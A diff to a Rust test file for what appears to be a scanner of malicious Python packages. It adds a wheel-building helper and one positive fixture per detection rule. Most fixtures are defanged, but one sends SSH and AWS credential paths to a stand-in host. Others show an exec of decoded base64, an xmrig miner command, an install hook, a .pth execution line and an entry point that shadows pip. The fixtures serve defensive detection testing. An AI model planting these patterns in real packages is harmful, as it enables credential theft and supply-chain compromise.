@@ -318,6 +318,70 @@ fn positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
     ]
 }
 
+fn wheel(files: &[(&str, &[u8])], record: Option<&str>, wheel_meta: &str) -> Vec<u8> {
+    use base64::Engine;
+    use sha2::Digest;
+    let mut z = Zip::new(b"");
+    let mut rec = String::new();
+    for (name, data) in files {
+        z.add(name, data, name, 0, 0);
+        let h = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
+        rec.push_str(&format!("{name},sha256={h},{}\n", data.len()));
+    }
+    z.add(
+        "demo-1.0.dist-info/WHEEL",
+        wheel_meta.as_bytes(),
+        "demo-1.0.dist-info/WHEEL",
+        0,
+        0,
+    );
+    let h = base64::engine::general_purpose::URL_SAFE_NO_PAD
+        .encode(sha2::Sha256::digest(wheel_meta.as_bytes()));
+    rec.push_str(&format!(
+        "demo-1.0.dist-info/WHEEL,sha256={h},{}\n",
+        wheel_meta.len()
+    ));
+    rec.push_str("demo-1.0.dist-info/RECORD,,\n");
+    if let Some(r) = record {
+        rec = r.to_string();
+    }
+    if record != Some("") {
+        z.add(
+            "demo-1.0.dist-info/RECORD",
+            rec.as_bytes(),
+            "demo-1.0.dist-info/RECORD",
+            0,
+            0,
+        );
+    }
+    z.finish()
+}
+
+const PURE: &str = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
+
+/// (rule id, file name, bytes) for the Python and package rules.
+fn python_positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
+    let stealer = b"import os, urllib.request\ndef f():\n    t = ['~/.ssh/id_rsa', '~/.aws/credentials']\n    urllib.request.urlopen('https://c.example.invalid', data=str(t).encode())\n";
+    vec![
+        ("python-exec-decoded", "m.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_vec()),
+        ("python-hidden-process", "m.py", b"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'print(1)'], stdout=subprocess.DEVNULL)\n".to_vec()),
+        ("python-miner", "m.py", b"import os\ndef f():\n    os.system('echo xmrig -o stratum+tcp://pool.example.invalid')\n".to_vec()),
+        ("python-shell-command", "m.py", b"import os\nos.system('echo hi')\n".to_vec()),
+        ("python-credential-stealer", "m.py", stealer.to_vec()),
+        ("python-credential-access", "m.py", b"import os\ndef f():\n    os.system('echo')\n    return '~/.kube/config'\n".to_vec()),
+        ("python-network-at-load", "m.py", b"import urllib.request\nurllib.request.urlopen('https://example.invalid')\n".to_vec()),
+        ("setup-install-hook", "setup.py", b"from setuptools import setup\nsetup(name='x', cmdclass={'install': X})\n".to_vec()),
+        ("pth-executable-line", "x.pth", b"import mymod; mymod.go()\n".to_vec()),
+        ("pth-untrusted-path", "x.pth", b"/tmp/.cache\n".to_vec()),
+        ("startup-entry-point", "x.start", b"pkg.boot:run\n".to_vec()),
+        ("startup-hook-file", "sitecustomize.py", b"print('echo')\n".to_vec()),
+        ("wheel-record-mismatch", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", b"x = 1\n")], Some("demo/__init__.py,sha256=AAAA,6\n"), PURE)),
+        ("wheel-record-missing", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", b"x = 1\n")], Some(""), PURE)),
+        ("wheel-binary-in-pure-wheel", "demo-1.0-py3-none-any.whl", wheel(&[("demo/tool", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00")], None, PURE)),
+        ("entry-point-shadows-command", "demo-1.0-py3-none-any.whl", wheel(&[("demo-1.0.dist-info/entry_points.txt", b"[console_scripts]\npip = demo:main\n")], None, PURE)),
+    ]
+}
+
 fn write(dir: &Path, name: &str, data: &[u8]) -> std::path::PathBuf {
     let p = dir.join(name);
     std::fs::write(&p, data).expect("write fixture");
@@ -328,7 +392,11 @@ fn write(dir: &Path, name: &str, data: &[u8]) -> std::path::PathBuf {
 fn every_rule_fires_on_its_fixture() {
     let dir = tempfile::tempdir().expect("tempdir");
     let mut covered = HashSet::new();
-    for (i, (id, name, bytes)) in positives().into_iter().enumerate() {
+    for (i, (id, name, bytes)) in positives()
+        .into_iter()
+        .chain(python_positives())
+        .enumerate()
+    {
         let sub = dir.path().join(i.to_string());
         std::fs::create_dir(&sub).expect("mkdir");
         let p = write(&sub, name, &bytes);
